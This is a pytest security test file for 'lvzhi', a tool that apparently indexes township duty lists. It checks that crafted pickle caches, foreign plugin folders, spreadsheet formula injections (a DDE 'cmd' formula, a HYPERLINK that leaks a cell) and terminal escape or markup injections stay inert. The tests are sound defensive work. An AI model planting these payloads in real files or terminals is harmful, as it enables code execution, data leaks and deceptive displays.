"""Hostile files: caches that would run code, document text that would drive the terminal,
cells that would run as spreadsheet formulas, plugin folders that are not lvzhi's."""

from __future__ import annotations

import os
import pickle
import sqlite3
import sys
from array import array
from pathlib import Path

import pytest

from lvzhi import cachefile
from lvzhi.index import index_path
from lvzhi.matching import Matcher
from lvzhi.model import Item, ListKind
from lvzhi.rows import RowTable
from lvzhi.search import cache_path, items_digest


def make_item(doc: str, township: str, kind: str, serial: int, name: str) -> Item:
    return Item(id=Item.make_id(doc, kind, serial), doc_id=doc, source=f"{doc}.txt",
                prefecture="伊犁州", county="伊宁市", township=township, list=ListKind(kind),
                serial=serial, category="民生服务", category_canonical="民生服务", name=name,
                departments="县人社局", department_names=["县人社局"])


@pytest.fixture
def items() -> list[Item]:
    return [make_item("a", "托格拉克乡", "reclaimed", 1, "工伤认定调查"),
            make_item("a", "托格拉克乡", "basic", 2, "做好“双拥”工作"),
            make_item("b", "昭苏镇", "reclaimed", 1, "工伤认定调查"),
            make_item("b", "昭苏镇", "basic", 4, "收养登记")]


class _Payload:
    """Unpickling this creates ``marker``: what a crafted cache would do with any command."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return (open, (str(self.marker), "w"))


# --- 1. caches are data ----------------------------------------------------------------------

@pytest.mark.parametrize(("cache_name", "command"), [("search", ["search", "工伤认定"]),
                                                      ("matters", ["matches"])])
def test_a_pickle_placed_as_a_cache_runs_nothing(run_cli, csv_list, store_path: Path,
                                                 tmp_path: Path, cache_name: str,
                                                 command: list[str]):
    """The matters cache, and the search index (a SQLite file beside the store)."""
    assert run_cli("ingest", str(csv_list("a.csv")),
                   str(csv_list("b.csv", township="昭苏镇", county="昭苏县")))[0] == 0
    marker = tmp_path / "pwned"
    cache = index_path(store_path) if cache_name == "search" else cache_path(store_path,
                                                                             cache_name)
    for suffix in ("-wal", "-shm"):
        Path(f"{cache}{suffix}").unlink(missing_ok=True)
    cache.write_bytes(pickle.dumps(_Payload(marker)))
    code, out, err = run_cli(*command)
    assert not marker.exists()
    assert code == 0, err
    assert "工伤认定调查" in out
    rebuilt = b"SQLite format 3" if cache_name == "search" else cachefile.MAGIC
    assert cache.read_bytes().startswith(rebuilt)  # rebuilt as data


def _tamper(cache: Path, kind: str, digest: str, change) -> None:
    """Rewrite a valid cache with ``change(data, arrays)`` applied, CRC recomputed (what a
    crafted file can do)."""
    data, arrays = cachefile.decode(cache.read_bytes(), kind, digest)
    change(data, arrays)
    cache.write_bytes(cachefile.encode(kind, digest, data, arrays))


def _set(arrays: dict[str, array], name: str, values: list[int]) -> None:
    arrays[name] = array("i", values)


@pytest.mark.parametrize("damage", ["truncated", "flipped", "foreign tables", "fifo"])
def test_a_damaged_or_crafted_search_index_is_rebuilt_or_set_aside(
        run_cli, csv_list, store_path: Path, damage: str):
    assert run_cli("ingest", str(csv_list("a.csv")),
                   str(csv_list("b.csv", township="昭苏镇", county="昭苏县")))[0] == 0
    index = index_path(store_path)
    for suffix in ("-wal", "-shm"):
        Path(f"{index}{suffix}").unlink(missing_ok=True)
    blob = index.read_bytes()
    if damage == "truncated":
        index.write_bytes(blob[:len(blob) // 3])
    elif damage == "flipped":
        index.write_bytes(blob[:100] + bytes(b ^ 0xFF for b in blob[100:4096]) + blob[4096:])
    elif damage == "foreign tables":
        index.unlink()
        con = sqlite3.connect(index)
        con.execute("CREATE TABLE meta (key TEXT, value TEXT)")
        con.execute("INSERT INTO meta VALUES ('version', 'x')")
        con.commit()
        con.close()
    elif damage == "fifo":  # must not block: opened, a FIFO would wait for a writer
        index.unlink()
        os.mkfifo(index)
    code, out, err = run_cli("search", "工伤认定")
    assert code == 0, err
    assert out.count("工伤认定调查") == 2
    code, out, err = run_cli("search", "gsrd")  # pinyin initials of 工伤认定
    assert code == 0 and out.count("工伤认定调查") == 2
    if damage != "fifo":
        assert index.read_bytes().startswith(b"SQLite format 3")


def test_a_crafted_matters_cache_is_rebuilt(items: list[Item], tmp_path: Path):
    cache = tmp_path / "store.json.matters.cache"
    rows = RowTable.from_items(items)
    digest = items_digest(rows)
    Matcher.load_or_build(rows, cache)
    _tamper(cache, "matters", digest, lambda d, a: a["members.values"].__setitem__(0, 99))
    matcher = Matcher.load_or_build(rows, cache)
    assert [c.item.id for c in matcher.counterparts("a:reclaimed:1")] == ["b:reclaimed:1"]


# --- 4. plugin folders -----------------------------------------------------------------------

def test_a_top_level_plugins_folder_beside_lvzhi_is_never_loaded(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """Installed, lvzhi sits in site-packages beside whatever top-level ``plugins`` folder
    another package left there; only the example folder inside lvzhi itself is loaded."""
    from lvzhi import plugins

    marker = tmp_path / "stranger-ran"
    site = tmp_path / "site-packages"
    (site / "plugins").mkdir(parents=True)
    (site / "plugins" / "stranger.py").write_text(
        f"open({str(marker)!r}, 'w').close()\n", encoding="utf-8")
    monkeypatch.syspath_prepend(str(site))
    monkeypatch.delenv(plugins.PLUGINS_DIR_ENV, raising=False)
    registry = plugins.load_plugins()
    assert not marker.exists()
    assert plugins.plugin_dirs() == [plugins.BUNDLED_PLUGINS_DIR.resolve()]
    assert {"csv", "plaintext", "pdf"} <= set(registry.extractors)


def test_the_example_plugin_ships_inside_the_package():
    from lvzhi import plugins

    assert (plugins.BUNDLED_PLUGINS_DIR / "csv_lists.py").is_file()
    label = f"{plugins.BUNDLED_PLUGINS_DIR.name}/csv_lists.py"
    assert plugins.load_plugins().extractors["csv"].plugin == label


def test_plugins_dir_help_says_it_runs_code(run_cli):
    from lvzhi.cli import build_parser

    assert "run as code with your rights" in " ".join(build_parser().format_help().split())


# --- shared: a document whose text is hostile ------------------------------------------------

def write_hostile_list(path: Path, names: list[str], township: str = "托格拉克乡",
                       county: str = "伊宁市") -> Path:
    """A CSV duty list (the example plugin's format) whose basic items are ``names``."""
    import csv
    import io

    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([f"伊犁州{county}{township}基本履职事项清单"])
    writer.writerow(["序号", "事项类别", "事项名称"])
    writer.writerows([n, "党的建设", name] for n, name in enumerate(names, 1))
    writer.writerow([f"伊犁州{county}{township}上级部门收回事项清单"])
    writer.writerow(["序号", "事项类别", "事项名称", "承接部门及工作方式"])
    writer.writerow([1, "民生服务", "工伤认定调查", "市人社局"])
    path.write_text(buffer.getvalue(), encoding="utf-8")
    return path


# --- 3. spreadsheet formulas -----------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://example.com/?"&A1,"点击查看")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,2)"]


@pytest.fixture
def formula_store(run_cli, tmp_path: Path):
    document = write_hostile_list(tmp_path / "f.csv", [*FORMULAS, "普通事项"])
    code, _, err = run_cli("ingest", "-q", str(document))
    assert code == 0, err
    return run_cli


def _csv_rows(path: Path) -> list[dict[str, str]]:
    import csv
    import io

    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))


def test_csv_export_neutralises_formulas_and_raw_cells_keeps_them(formula_store,
                                                                   tmp_path: Path):
    target = tmp_path / "out.csv"
    assert formula_store("export", "--format", "csv", "-o", str(target))[0] == 0
    names = [r["name"] for r in _csv_rows(target) if r["list"] == "basic"]
    assert names == ["'" + f for f in FORMULAS] + ["普通事项"]
    assert formula_store("export", "--format", "csv", "--raw-cells", "-o", str(target))[0] == 0
    assert [r["name"] for r in _csv_rows(target) if r["list"] == "basic"] == [
        *FORMULAS, "普通事项"]


def test_cells_starting_with_tab_or_cr_are_neutralised_too(items: list[Item]):
    from lvzhi.export import export_items

    items[0].name, items[1].departments = "\t=1+1", "\r@SUM(1,2)"
    text = export_items(items, "csv").decode("utf-8-sig")
    assert "'\t=1+1" in text and "'\r@SUM(1,2)" in text


def test_json_exports_stay_exact(formula_store):
    import json

    code, out, _ = formula_store("export", "--format", "jsonl")
    names = [json.loads(line)["name"] for line in out.splitlines()]
    assert code == 0 and set(FORMULAS) <= set(names)


def test_coverage_csv_neutralises_formulas(run_cli, tmp_path: Path):
    a = write_hostile_list(tmp_path / "a.csv", ["=1+1事项"])
    b = write_hostile_list(tmp_path / "b.csv", ["=1+1事项"], township="@昭苏镇",
                           county="昭苏县")
    assert run_cli("ingest", "-q", str(a), str(b))[0] == 0
    target = tmp_path / "grid.csv"
    assert run_cli("coverage", "--csv", str(target))[0] == 0
    text = target.read_text(encoding="utf-8-sig")
    assert "'=1+1事项" in text and "\n=" not in text and ",=" not in text
    assert run_cli("coverage", "--csv", str(target), "--raw-cells")[0] == 0
    assert ",=1+1事项" in target.read_text(encoding="utf-8-sig")


# --- 2. document text reaches the terminal only as text --------------------------------------

HOSTILE_NAMES = [
    "\x1b]0;pwned\x07标题事项",  # sets the window title
    "\x1b[2J清屏事项",  # clears the screen
    "\x1b]52;c;ZWNobyBwd25lZA==\x07剪贴板事项",  # writes the clipboard
    "\x1b]8;;http://evil.example/\x1b\\链接事项\x1b]8;;\x1b\\",  # a hidden hyperlink
    "\x9b31m八位控制事项",  # C1 CSI
    "[bold red]红色事项[/]",
    "[link=http://evil.example/]链接标记事项[/link]",
    "孤立[/]事项",  # a lone closing tag: MarkupError
    "表情:warning:事项",
]
# What each looks like on screen: controls as their pictures, markup as written.
SHOWN_NAMES = ["␛]0;pwned␇标题事项", "␛[2J清屏事项", "␛]52;c;ZWNobyBwd25lZA==␇剪贴板事项",
               "␛]8;;http://evil.example/␛\\链接事项␛]8;;␛\\", "\ufffd31m八位控制事项",
               "[bold red]红色事项[/]", "[link=http://evil.example/]链接标记事项[/link]",
               "孤立[/]事项", "表情:warning:事项"]
HOSTILE_TOWNSHIP = "[red]\x1b[2J红旗[/]乡"
SHOWN_TOWNSHIP = "[red]␛[2J红旗[/]乡"
HOSTILE_FILE = "[bold]红\x1b[31m[red].csv"  # no "/" in a file name


@pytest.fixture
def hostile_store(run_cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """Two townships listing the same hostile names, one from a hostile file name."""
    monkeypatch.setenv("COLUMNS", "300")  # tables do not cut the names short
    a = write_hostile_list(tmp_path / HOSTILE_FILE, HOSTILE_NAMES, township=HOSTILE_TOWNSHIP)
    b = write_hostile_list(tmp_path / "b.csv", HOSTILE_NAMES, township="昭苏镇",
                           county="昭苏县")
    code, out, err = run_cli("ingest", str(a), str(b))
    assert code == 0, err
    _assert_literal(out + err)
    assert "[bold]红␛[31m[red].csv" in out and SHOWN_TOWNSHIP in out
    return run_cli


def _assert_literal(text: str) -> None:
    assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text
    assert "Traceback" not in text and "MarkupError" not in text


@pytest.mark.parametrize("command", [
    ["show", "昭苏镇"], ["show", "红旗"], ["search", "事项", "--limit", "100"],
    ["search", "标题"], ["search", "红色"], ["matches"], ["compare", "红旗", "昭苏镇"],
    ["list"], ["search", "[/]不存在"],
])
def test_cli_output_shows_document_text_literally(hostile_store, command: list[str]):
    code, out, err = hostile_store(*command)
    assert code == 0, err
    _assert_literal(out + err)
    if command[0] in ("show", "matches"):
        for name in SHOWN_NAMES:
            assert name in out
    if command[0] == "compare":
        assert SHOWN_TOWNSHIP in out
    if command[0] == "list":
        assert SHOWN_TOWNSHIP in out and "[bold]红␛[31m[red].csv" in out
    if command[1:2] == ["红色"]:
        assert "[bold red]" in out and "[/]" in out  # the match is highlighted, not parsed


def test_counterparts_shows_document_text_literally(hostile_store, monkeypatch):
    import json

    monkeypatch.setattr("lvzhi.cli.base.stdout_is_terminal", lambda: True)  # the table, headline

    code, out, _ = hostile_store("show", "昭苏镇", "--json")
    lone = next(i for i in json.loads(out) if i["name"] == "孤立[/]事项")
    code, out, err = hostile_store("counterparts", lone["id"])
    assert code == 0, err
    _assert_literal(out + err)
    assert out.count("孤立[/]事项") == 2 and SHOWN_TOWNSHIP in out


def test_json_keeps_the_text_exact(hostile_store):
    import json

    code, out, _ = hostile_store("show", "昭苏镇", "--json")
    assert code == 0 and "\x1b" not in out  # JSON escapes it as \u001b
    assert [i["name"] for i in json.loads(out) if i["list"] == "basic"] == HOSTILE_NAMES


def test_check_shows_a_hostile_file_literally(run_cli, tmp_path: Path):
    document = write_hostile_list(tmp_path / HOSTILE_FILE, HOSTILE_NAMES)
    code, out, err = run_cli("check", str(document))
    assert code == 0, err
    _assert_literal(out + err)
    assert "[bold]红␛[31m[red].csv" in out


def test_errors_naming_a_hostile_file_are_literal(run_cli, tmp_path: Path):
    missing = tmp_path / "[bold]\x1b]0;x\x07.csv"
    code, out, err = run_cli("ingest", str(missing))
    assert code == 1
    _assert_literal(out + err)
    assert "[bold]␛]0;x␇.csv" in err


# --- 2. … and in the explorer ----------------------------------------------------------------

def _settled(app) -> bool:
    return app.indexes_ready and not any(w.is_running for w in app.workers)


async def _settle(pilot) -> None:
    for _ in range(400):
        await pilot.pause()
        await pilot.app.workers.wait_for_complete()
        await pilot.pause()
        if _settled(pilot.app):
            return
    raise AssertionError("the explorer did not settle")


def _screen_text(app) -> str:
    """Everything the screen shows, as the SVG screenshot writes it (plain text in it)."""
    import html
    import re

    svg = app.export_screenshot()
    assert "\x1b" not in svg and "\x9b" not in svg
    text = re.sub(r"<[^>]+>", "", svg)
    return html.unescape(text).replace("\xa0", " ")


def test_the_explorer_shows_hostile_text_literally(tmp_path: Path):
    import asyncio

    from lvzhi.ingest import ingest
    from lvzhi.plugins import load_plugins
    from lvzhi.store import Store
    from lvzhi.tui.app import LvzhiApp
    from lvzhi.tui.widgets.item_table import ItemTable

    a = write_hostile_list(tmp_path / HOSTILE_FILE, HOSTILE_NAMES, township=HOSTILE_TOWNSHIP)
    b = write_hostile_list(tmp_path / "b.csv", HOSTILE_NAMES, township="昭苏镇",
                           county="昭苏县")
    store = tmp_path / "store.json"
    assert not ingest(Store(store), load_plugins([]), [a, b]).failed
    app = LvzhiApp(store, [], None)
    seen: dict[str, str] = {}

    async def run() -> None:
        async with app.run_test(size=(200, 60)) as pilot:
            await _settle(pilot)
            table = app.main.query_one(ItemTable)
            table.focus()
            await pilot.pause()
            seen["main"] = _screen_text(app)
            for _ in range(7):  # down to 孤立[/]事项 (the first township's 8th item)
                await pilot.press("down")
            await _settle(pilot)
            seen["detail"] = _screen_text(app)
            await pilot.press("m")  # counterparts
            await _settle(pilot)
            seen["counterparts"] = _screen_text(app)
            await pilot.press("escape")
            await pilot.press("s")  # the source text
            await _settle(pilot)
            seen["source"] = _screen_text(app)
            await pilot.press("escape")
            await pilot.press("x", "enter")  # compare with the other township
            await _settle(pilot)
            seen["compare"] = _screen_text(app)
            await pilot.press("escape")
            await _settle(pilot)
            app.notify("[/]\x1b[2J通知[link=http://evil.example/]", title="[bold]\x1b]0;x\x07")
            await pilot.pause()
            [note] = [n for n in app._notifications if "通知" in n.message]
            seen["notification"] = f"{note.title}|{note.message}|{note.markup}"

    asyncio.run(run())
    for view in ("main", "detail", "compare"):
        assert "␛]0;pwned␇标题事项" in seen[view], view
        assert "[bold red]红色事项[/]" in seen[view], view
    assert SHOWN_TOWNSHIP in seen["main"]
    assert "孤立[/]事项" in seen["detail"] and "孤立[/]事项" in seen["counterparts"]
    assert "孤立[/]事项" in seen["source"]
    # Sent as plain text (a toast with markup=False is never parsed).
    assert seen["notification"] == "[bold]␛]0;x␇|[/]␛[2J通知[link=http://evil.example/]|False"


def test_safe_display_leaves_no_control_character_and_keeps_length():
    import unicodedata

    from lvzhi.text import safe_display

    every = "".join(map(chr, range(0xA0))) + "\u202e\u2066正文"
    for newlines in (False, True):
        out = safe_display(every, newlines=newlines)
        assert len(out) == len(every)
        left = {c for c in out if unicodedata.category(c) == "Cc"}
        assert left == ({"\t", "\n"} if newlines else {"\t"})
        assert "\u202e" not in out and out.endswith("正文")
    assert safe_display("\x1b[2J") == "␛[2J" and safe_display("[/]") == "[/]"
    assert safe_display(os.fsdecode(b"\xff.csv")) == "\ufffd.csv"  # printable to UTF-8


# --- export -o: whole or not at all, one line when it cannot be --------------------------------

@pytest.mark.parametrize("command", [["export", "--format", "csv", "-o"], ["coverage", "--csv"]])
def test_export_into_a_missing_folder_or_onto_a_folder_is_one_line(formula_store,
                                                                   tmp_path: Path,
                                                                   command: list[str]):
    code, _, err = formula_store(*command, str(tmp_path / "missing" / "out.csv"))
    assert code == 1 and "no such folder" in err and "Traceback" not in err
    assert not (tmp_path / "missing").exists()
    folder = tmp_path / "a-folder"
    folder.mkdir()
    code, _, err = formula_store(*command, str(folder))
    assert code == 1 and "it is a folder" in err and folder.is_dir()


def test_a_full_disk_leaves_the_old_export_and_no_temporary(formula_store, tmp_path: Path,
                                                            monkeypatch: pytest.MonkeyPatch):
    import errno

    from lvzhi import store

    target = tmp_path / "out" / "items.csv"
    target.parent.mkdir()
    target.write_text("the old export\n", encoding="utf-8")

    def full(fd: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(store.os, "fsync", full)
    code, _, err = formula_store("export", "--format", "csv", "-o", str(target))
    assert code == 1 and "No space left on device" in err and str(target) in err
    assert target.read_text(encoding="utf-8") == "the old export\n"
    assert [p.name for p in target.parent.iterdir()] == ["items.csv"]


def test_a_new_export_gets_the_usual_file_mode(formula_store, tmp_path: Path):
    target = tmp_path / "new.csv"
    umask = os.umask(0o022)
    try:
        assert formula_store("export", "--format", "csv", "-o", str(target))[0] == 0
    finally:
        os.umask(umask)
    assert target.stat().st_mode & 0o777 == 0o644


# --- a file name that is not UTF-8 -------------------------------------------------------------

def test_names_not_utf8_are_kept_readable(run_cli, tmp_path: Path):
    """A GBK name (as Chinese Windows zips leave them) and one that is no encoding at all, in a
    folder with a good file: all three stored, the names readable, the batch not lost."""
    if sys.platform == "darwin":  # macOS file systems refuse names that are not UTF-8
        pytest.skip("the file system takes UTF-8 names only")
    from tests.conftest import write_csv_list

    folder = tmp_path / "docs"
    folder.mkdir()
    write_csv_list(folder / "good.csv")
    for raw, township, county in ((b"\xb0\xa1.csv", "昭苏镇", "昭苏县"),
                                  (b"\xb0\xa1\xff.csv", "克孜勒苏乡", "伽师县")):
        made = write_csv_list(folder / "tmp.csv", township=township, county=county)
        os.rename(made, os.path.join(os.fsencode(folder), raw))
    code, out, err = run_cli("ingest", str(folder))
    assert code == 0, err
    _assert_literal(out + err)
    code, out, _ = run_cli("list", "--json")
    import json

    assert sorted(d["source"] for d in json.loads(out)) == ["\\xb0\\xa1\\xff.csv", "good.csv",
                                                           "啊.csv"]


def test_exports_to_a_terminal_show_controls_and_to_a_pipe_stay_exact(
        hostile_store, monkeypatch: pytest.MonkeyPatch, capsysbinary):
    code, out, _ = hostile_store("export", "--format", "csv")
    assert code == 0 and "\x1b]0;pwned\x07标题事项" in out  # piped: the data as it is
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
    for fmt in ("csv", "jsonl"):
        code, out, _ = hostile_store("export", "--format", fmt)
        assert code == 0
        _assert_literal(out)  # in JSON too: it leaves the C1 CSI (\x9b) as it is
    code, out, _ = hostile_store("show", "昭苏镇", "--json")
    _assert_literal(out)


def test_the_detail_pane_shows_extra_column_headers_literally(items: list[Item]):
    import io

    from rich.console import Console

    from lvzhi.tui.widgets.detail_pane import item_renderable

    item = items[0]
    item.extra = {"[/]备注\x1b[2J": "[bold]说明\x1b]0;x\x07"}
    console = Console(width=120, file=io.StringIO(), color_system=None)
    console.print(item_renderable(item))
    out = console.file.getvalue()
    assert "[/]备注␛[2J" in out and "[bold]说明␛]0;x␇" in out and "\x1b" not in out
